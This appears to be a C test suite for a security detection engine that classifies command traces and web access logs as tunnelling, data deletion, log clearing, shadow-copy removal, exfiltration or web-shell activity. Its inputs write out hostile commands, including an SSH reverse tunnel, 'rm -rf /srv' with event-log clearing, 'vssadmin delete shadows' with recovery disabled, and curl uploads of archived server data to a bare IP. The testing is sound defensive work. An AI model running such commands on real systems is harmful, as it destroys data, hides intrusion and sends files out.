#include "assess/conclude_support.h"

#define DAY_OF_JOBS (INT64_C(86400) * TIME_SECOND)

TEST(deeds_are_told_once_a_command_with_how_often)
{
	struct building b = begin("deeds");

	for (int i = 0; i < 5; i++)
		add_trace(&b, command_trace("ssh -fN -R 2222:localhost:22 u@198.51.100.4", START + i * TIME_SECOND));
	add_trace(&b, command_trace("rm -rf /srv && wevtutil cl System", START));
	add_trace(&b, command_trace("journalctl --vacuum-time=30d", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.data-deleted medium,kanshiki.hiding-command high,"
				       "kanshiki.tunnel-command medium");
	assert_string_equal(ask(&b, "SELECT max(count) FROM finding"), "5");
	case_close(b.file);
}

TEST(several_ways_to_repair_taken_at_once_are_critical)
{
	struct building b = begin("no way back");

	add_trace(&b, command_trace("vssadmin delete shadows /all /quiet", START));
	add_trace(&b, command_trace("bcdedit /set {default} recoveryenabled No", START + TIME_SECOND));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.no-way-back critical,kanshiki.recovery-off high,kanshiki.shadows-removed high");
	case_close(b.file);
	b = begin("days apart");
	add_trace(&b, command_trace("vssadmin delete shadows /all /quiet", START));
	add_trace(&b, command_trace("bcdedit /set {default} recoveryenabled No", START + 2 * DAY_OF_JOBS));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.recovery-off high,kanshiki.shadows-removed high");
	case_close(b.file);
}

TEST(a_job_that_packs_and_delivers_each_day_is_no_theft_and_to_a_stranger_is)
{
	struct building b = begin("jobs");

	for (int i = 0; i < 5; i++) {
		char pack[80], send[120];

		snprintf(pack, sizeof pack, "tar czf /tmp/build-%d/app.tar.gz dist", i);
		snprintf(send, sizeof send, "curl -sf -T /tmp/build-%d/app.tar.gz https://nexus.corp.example/raw", i);
		add_trace(&b, command_trace(pack, START + i * DAY_OF_JOBS));
		add_trace(&b, command_trace(send, START + i * DAY_OF_JOBS + TIME_SECOND));
	}
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.delivery-routine low,kanshiki.packing-routine low");
	case_close(b.file);
	b = begin("stranger");
	for (int i = 0; i < 5; i++) {
		add_trace(&b, command_trace("tar czf /tmp/x.tgz /srv", START + i * DAY_OF_JOBS));
		add_trace(&b, command_trace("curl -T /tmp/x.tgz https://198.51.100.7/up", START + i * DAY_OF_JOBS + TIME_SECOND));
	}
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.packing-routine low,kanshiki.sending-tool medium,kanshiki.theft-episode high");
	case_close(b.file);
}

TEST(sending_to_another_machine_of_the_house_is_none)
{
	struct building b = begin("inside");

	add_trace(&b, command_trace("tar czf /tmp/x.tgz /srv", START));
	add_trace(&b, command_trace("scp /tmp/x.tgz eva@10.1.4.30:", START + TIME_SECOND));
	add_trace(&b, command_trace("rsync -a /srv backup@vault:/b", START + TIME_SECOND));
	add_trace(&b, command_trace("Compress-Archive C:\\Temp\\users.csv \\\\FS01\\IT\\users.zip", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.packing medium");
	case_close(b.file);
}

TEST(uploads_to_sharing_places_and_bare_addresses_are_told_by_themselves)
{
	struct building b = begin("drops");

	add_trace(&b, command_trace("curl -s -F file=@/srv/c.sql https://file.io", START));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.sending-tool medium");
	case_close(b.file);
	b = begin("one's own");
	add_trace(&b, command_trace("curl -s -F file=@/srv/c.sql https://wiki.corp.example/up", START));
	add_trace(&b, command_trace("curl -d @order.json http://localhost:8080/orders", START));
	conclude(&b);
	assert_string_equal(rules(&b), "");
	case_close(b.file);
}

static struct trace visit(const char *path, const char *client, const char *method, uint64_t bytes)
{
	struct trace t = trace_new(TRACE_TRANSFER, "web");

	t.source = SPAN("access log");
	t.time = START;
	t.path = span_text(path);
	t.peer = span_text(client);
	t.bytes_out = bytes;
	t.detail = strcmp(method, "POST") ? SPAN("{\"method\":\"GET\",\"status\":\"200\"}")
					  : SPAN("{\"method\":\"POST\",\"status\":\"200\"}");
	return t;
}

TEST(web_shells_and_served_dumps_are_seen_and_sites_and_mirrors_are_not)
{
	struct building b = begin("web");

	for (int i = 0; i < 20; i++) {
		char client[32];

		snprintf(client, sizeof client, "203.0.113.%d", i);
		add_trace(&b, visit("/uploads/2026/img.php", "198.51.100.4", "POST", 300));
		add_trace(&b, visit("/index.php", "198.51.100.4", "POST", 300));
		add_trace(&b, visit("/cache/minify.php", client, "POST", 300));
	}
	add_trace(&b, visit("/img/b.sql.gz", "198.51.100.4", "GET", 900000000));
	conclude(&b);
	assert_string_equal(rules(&b), "kanshiki.archive-served medium,kanshiki.web-shell-visits medium");
	case_close(b.file);
	b = begin("mirror");
	for (int i = 0; i < 20; i++) {
		char path[40];

		snprintf(path, sizeof path, "/pub/tool-%d.zip", i);
		add_trace(&b, visit(path, "198.51.100.4", "GET", 900000000));
	}
	conclude(&b);
	assert_string_equal(rules(&b), "");
	case_close(b.file);
}
